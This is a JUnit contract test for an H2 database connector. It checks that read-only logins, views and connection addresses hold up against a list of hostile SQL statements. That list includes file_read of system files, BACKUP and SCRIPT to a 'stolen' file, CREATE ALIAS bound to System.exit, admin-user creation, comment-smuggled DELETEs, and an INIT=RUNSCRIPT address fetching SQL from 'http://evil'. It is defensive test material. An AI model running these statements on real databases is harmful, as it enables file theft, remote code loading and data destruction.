package dev.culprit.connector.jdbc.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.culprit.connector.jdbc.ContractTables;
import dev.culprit.connector.kit.ConnectorContract;
import dev.culprit.connector.kit.Permitted;
import dev.culprit.core.query.Connector;
import dev.culprit.core.source.ConnectorException;
import dev.culprit.core.source.FailureKind;
import dev.culprit.core.source.SourceAddress;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class H2ConnectorContractTest extends ConnectorContract {
    @TempDir static Path folder;

    private final H2Provider provider = new H2Provider(folder.resolve("cache"));

    @BeforeAll
    static void fill() throws SQLException {
        try (Connection connection =
                DriverManager.getConnection(
                        "jdbc:h2:file:"
                                + folder.resolve("shop")
                                + ";CASE_INSENSITIVE_IDENTIFIERS=TRUE;DATABASE_TO_UPPER=FALSE",
                        "boss",
                        "secret")) {
            ContractTables.execute(
                    connection,
                    "CREATE TABLE customers (customer_id varchar PRIMARY KEY, name varchar)",
                    "CREATE TABLE orders (order_id bigint PRIMARY KEY,"
                            + " customer_id varchar(10) REFERENCES customers,"
                            + " amount numeric(10, 2), weight double precision, paid boolean,"
                            + " placed_at timestamp, ship_date date, pickup time, note text)",
                    "CREATE TABLE hidden (secret text)",
                    "CREATE SCHEMA sales",
                    "CREATE TABLE sales.visits (visit_id int, seen timestamp with time zone)",
                    "CREATE VIEW sales.paid AS SELECT * FROM orders WHERE paid");
            ContractTables.fill(connection);
            ContractTables.execute(
                    connection,
                    "CREATE USER reader PASSWORD 'quiet'",
                    "GRANT SELECT ON orders, customers, sales.visits, sales.paid TO reader",
                    "CREATE USER writer PASSWORD 'quiet'",
                    "GRANT SELECT, DELETE ON orders TO writer");
        }
    }

    @Override
    protected Connector open() throws Exception {
        return open(address("reader", "quiet"));
    }

    private static String address(String user, String password) {
        return "jdbc:h2:file:" + folder.resolve("shop") + ";USER=" + user + ";PASSWORD=" + password;
    }

    private Connector open(String address) throws ConnectorException {
        SourceAddress read = provider.read(address).orElseThrow();
        return provider.open(read.profile(), read.asSecrets());
    }

    @Override
    protected String endlessQuery() {
        return "SELECT count(*) FROM system_range(1, 100000000) a, system_range(1, 1000) b";
    }

    @Override
    protected List<String> attacks() {
        String file = folder.resolve("stolen").toString();
        List<String> attacks = new ArrayList<>(commonAttacks());
        attacks.addAll(
                List.of(
                        "SELECT file_read('/etc/hostname')",
                        "SELECT file_write('x', '" + file + "')",
                        "SELECT * FROM csvread('/etc/hostname')",
                        "SELECT csvwrite('" + file + "', 'SELECT 1')",
                        "SELECT * FROM link_schema('x', '', 'jdbc:h2:mem:x;INIT=SELECT 1', 'sa',"
                                + " '', 'PUBLIC')",
                        "SCRIPT TO '" + file + "'",
                        "SCRIPT",
                        "BACKUP TO '" + file + "'",
                        "RUNSCRIPT FROM '" + file + "'",
                        "SHUTDOWN",
                        "CREATE ALIAS exec AS 'String e() { return null; }'",
                        "CREATE ALIAS exec FOR 'java.lang.System.exit'",
                        "CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'T')",
                        "CREATE USER evil PASSWORD 'x' ADMIN",
                        "ALTER USER reader ADMIN TRUE",
                        "SET DB_CLOSE_DELAY 10",
                        "SET MODE Oracle",
                        "CALL file_read('/etc/hostname')",
                        "CREATE LOCAL TEMPORARY TABLE t AS SELECT 1",
                        "SELECT * FROM FINAL TABLE (DELETE FROM orders)",
                        "SELECT * FROM hidden",
                        "SELECT * FROM information_schema.users WHERE user_name = 'BOSS'"
                                + " AND file_read('/etc/hostname') IS NOT NULL",
                        "SELECT 1 /* ' */; DELETE FROM orders -- '",
                        "SELECT $$'$$; DELETE FROM orders -- '",
                        "SELECT 1 // ' \n ; DELETE FROM orders -- '",
                        "EXPLAIN ANALYZE DELETE FROM orders"));
        return attacks;
    }

    @Override
    protected Optional<Callable<Connector>> unknownLocation() {
        return Optional.of(() -> open("jdbc:h2:file:" + folder.resolve("nowhere")));
    }

    @Override
    protected Optional<Callable<Connector>> wrongPassword() {
        return Optional.of(() -> open(address("reader", "loud")));
    }

    @Test
    void tablesThatTheLoginMayNotReadAreNotShown() throws Exception {
        assertThat(connector().describe().tables())
                .extracting(table -> table.name().toString())
                .containsExactlyInAnyOrder("customers", "orders", "sales.paid", "sales.visits");
    }

    @Test
    void readerLoginHasNoWarnings() throws Exception {
        assertThat(connector().check().warnings()).isEmpty();
    }

    @Test
    void writerLoginIsWarnedAbout() throws Exception {
        try (Connector writer = open(address("writer", "quiet"))) {
            assertThat(writer.check().warnings())
                    .containsExactly(
                            "writer may write to the table PUBLIC.orders; a login that may only"
                                    + " read is safer.");
        }
    }

    @Test
    void administratorReadsACopyAsSomeoneElse() throws Exception {
        try (Connector boss = open(address("boss", "secret"))) {
            assertThat(boss.check().warnings()).singleElement().asString().contains("copy");
            assertThat(boss.describe().table("hidden")).isPresent();
            assertThat(boss.run(Permitted.query("SELECT current_user AS u")).text(0, "u"))
                    .hasValue("CULPRIT_READER");
            for (String attack : attacks()) {
                if (!attack.contains("hidden")) {
                    assertThatThrownBy(() -> boss.run(Permitted.query(attack)))
                            .as(attack)
                            .isInstanceOf(ConnectorException.class);
                }
            }
            assertThat(copies()).hasSize(1);
        }
        assertThat(copies()).isEmpty();
        assertThat(folder.resolve("stolen")).doesNotExist();
    }

    private static List<Path> copies() throws IOException {
        try (Stream<Path> files = Files.walk(folder.resolve("cache"))) {
            return files.filter(Files::isRegularFile).toList();
        }
    }

    @Test
    void loginAndAccessModeHoldWithoutTheParser() throws Exception {
        try (Connection reader =
                H2File.driver(folder.resolve("shop.mv.db"), "writer", "quiet", true)
                        .getConnection()) {
            for (String attack :
                    List.of(
                            "DELETE FROM orders",
                            "CREATE TABLE t (x int)",
                            "SELECT file_read('/etc/hostname')",
                            "SELECT * FROM csvread('/etc/hostname')",
                            "SCRIPT",
                            "BACKUP TO '" + folder.resolve("stolen") + "'",
                            "SHUTDOWN",
                            "CREATE ALIAS exec FOR 'java.lang.System.exit'")) {
                assertThatThrownBy(() -> ContractTables.execute(reader, attack))
                        .as(attack)
                        .isInstanceOf(SQLException.class);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x",
                "jdbc:h2:tcp://localhost/~/x",
                "jdbc:h2:ssl:host/x",
                "jdbc:h2:zip:x.zip!/x",
                "jdbc:h2:file:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:x;ACCESS_MODE_DATA=rw",
                "jdbc:h2:x;AUTO_SERVER=TRUE"
            })
    void addressWithMoreThanAFileAndALoginIsRefused(String address) {
        assertThatThrownBy(() -> open(address))
                .isInstanceOfSatisfying(
                        ConnectorException.class,
                        e -> assertThat(e.kind()).isEqualTo(FailureKind.REJECTED));
    }

    @Test
    void addressIsTakenApart() throws Exception {
        SourceAddress address =
                provider.read("jdbc:h2:data/shop;user=ann;PASSWORD=x=y;IFEXISTS=TRUE")
                        .orElseThrow();

        assertThat(address.profile().settings())
                .containsEntry("file", "data/shop.mv.db")
                .containsEntry("user", "ann");
        assertThat(address.asSecrets().secret("password").reveal()).isEqualTo("x=y");
        assertThat(provider.read("data/shop.mv.db").orElseThrow().profile().settings())
                .containsEntry("user", "sa");
    }
}
